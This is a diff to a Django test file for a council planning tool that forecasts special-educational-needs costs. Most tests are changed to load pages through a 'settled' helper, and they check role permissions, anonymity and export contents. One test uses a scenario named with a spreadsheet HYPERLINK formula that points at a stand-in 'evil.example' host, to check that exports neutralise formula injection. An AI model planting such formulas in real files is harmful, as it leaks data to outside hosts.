@@ -15,7 +15,7 @@ from highneeds.planning import exports
 from highneeds.planning.charts import money
 from highneeds.planning.models import Scenario
 
-from .conftest import needs_data
+from .conftest import needs_data, settled
 
 pytestmark = [pytest.mark.django_db, needs_data]
 PASSWORD = "correct horse battery staple"
@@ -58,12 +58,12 @@ def form_data(base_year, **changes):
 def test_the_lead_member_can_look_but_not_change(client, make_user, make_scenario):
     scenario = make_scenario(name="Safety valve", is_baseline=True)
     signed_in(client, make_user, "strategic_lead")
-    overview = client.get("/planning/")
+    overview = settled(client, "/planning/")
     assert overview.status_code == 200
     page = text(overview)
     assert 'role="img"' in page and "<title id=" in page and "<desc id=" in page
     assert "Forecast by year" in page and "Create a scenario" not in page
-    assert client.get(f"/planning/scenarios/{scenario.pk}/").status_code == 200
+    assert settled(client, f"/planning/scenarios/{scenario.pk}/").status_code == 200
     assert client.get("/planning/scenarios/").status_code == 200
     assert client.get("/planning/scenarios/new/").status_code == 403
     assert client.get(f"/planning/scenarios/{scenario.pk}/edit/").status_code == 403
@@ -91,7 +91,7 @@ def test_no_child_is_named_anywhere(client, make_user, make_scenario, small_coun
     signed_in(client, make_user, "finance")
     names = list(Child.objects.values_list("first_name", flat=True))
     for path in ("/planning/", f"/planning/scenarios/{scenario.pk}/"):
-        page = text(client.get(path))
+        page = text(settled(client, path))
         assert not [n for n in names if n in page]
 
 
@@ -113,7 +113,7 @@ def test_finance_creates_a_scenario_through_the_form(client, make_user, small_co
     ]
     assert scenario.levers["fewer_requests"] == {"value": 0.1, "start_year": small_council + 1, "ramp_years": 2}
     assert scenario.allocation_growth == pytest.approx(0.03) and scenario.created_by == finance
-    page = text(client.get(response["Location"]))
+    page = text(settled(client, response["Location"]))
     assert "Cost avoided" in page and "Deficit trajectory" in page
     # The edit form shows what was saved, with one empty row after the saved one.
     edit = text(client.get(f"/planning/scenarios/{scenario.pk}/edit/"))
@@ -167,7 +167,7 @@ def test_scenario_page_shows_cost_avoided_against_the_levers_off(client, make_us
         name="Fewer requests", levers={"fewer_requests": {"value": 0.3, "start_year": 2027, "ramp_years": 0}}
     )
     signed_in(client, make_user, "manager")
-    page = text(client.get(f"/planning/scenarios/{scenario.pk}/"))
+    page = text(settled(client, f"/planning/scenarios/{scenario.pk}/"))
     avoided = eb.cost_avoided(eb.baseline_for(scenario), eb.projection_for(scenario))
     assert sum(avoided) > 0
     total = re.search(r'id="cost-avoided-total"><span class="planning-money">([^<]+)<', page).group(1)
@@ -210,6 +210,7 @@ def test_exports_are_real_workbooks_and_csv(client, make_user, make_scenario):
         unit_costs={"independent_special": 65000},
     )
     finance = signed_in(client, make_user, "finance")
+    settled(client, f"/planning/scenarios/{scenario.pk}/")  # the export is of the kept run the page showed
     response = client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx")
     assert response.status_code == 200 and 'filename="places.xlsx"' in response["Content-Disposition"]
     wb = load_workbook(io.BytesIO(response.content))
@@ -254,7 +255,7 @@ def test_compare_two_scenarios(client, make_user, make_scenario):
     a = make_scenario(name="Alpha", allocation_growth=0.045)
     b = make_scenario(name="Beta", levers={"more_step_down": {"value": 0.05, "start_year": 2027, "ramp_years": 0}})
     signed_in(client, make_user, "strategic_lead")
-    page = text(client.get(f"/planning/compare/?scenarios={a.pk}&scenarios={b.pk}"))
+    page = text(settled(client, f"/planning/compare/?scenarios={a.pk}&scenarios={b.pk}"))
     assert "Cost avoided" in page and "Alpha" in page and "Beta" in page and 'role="img"' in page
     alpha = re.search(r"Alpha</th>(.*?)</tr>", page, re.S).group(1)
     assert "4.5%" in alpha and "Allocation growth a year" in page  # each scenario's assumptions beside it
@@ -271,6 +272,7 @@ def test_a_scenario_named_as_a_formula_exports_as_text(client, make_user, make_s
     name = '=HYPERLINK("http://evil.example/?leak","Open")'
     scenario = make_scenario(name=name)
     signed_in(client, make_user, "finance")
+    settled(client, f"/planning/scenarios/{scenario.pk}/")
     wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
     assert not any(c.data_type == "f" or c.value.startswith("=") for c in cells)
@@ -292,11 +294,11 @@ def test_plans_by_setting_are_protected_for_readers_who_cannot_open_every_record
     independent special schools here)."""
     scenario = make_scenario(name="Small")
     signed_in(client, make_user, "manager")
-    exact = _by_setting_cells(client.get(f"/planning/scenarios/{scenario.pk}/").content.decode())
+    exact = _by_setting_cells(settled(client, f"/planning/scenarios/{scenario.pk}/").content.decode())
     assert any(0 < int(c.replace(",", "")) < 5 for c in exact if c.replace(",", "").isdigit())
     client.logout()
     signed_in(client, make_user, "finance")
-    cells = _by_setting_cells(client.get(f"/planning/scenarios/{scenario.pk}/").content.decode())
+    cells = _by_setting_cells(settled(client, f"/planning/scenarios/{scenario.pk}/").content.decode())
     assert "Not shown" in cells
     assert all(c == "Not shown" or int(c.replace(",", "")) % 5 == 0 for c in cells)
     wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
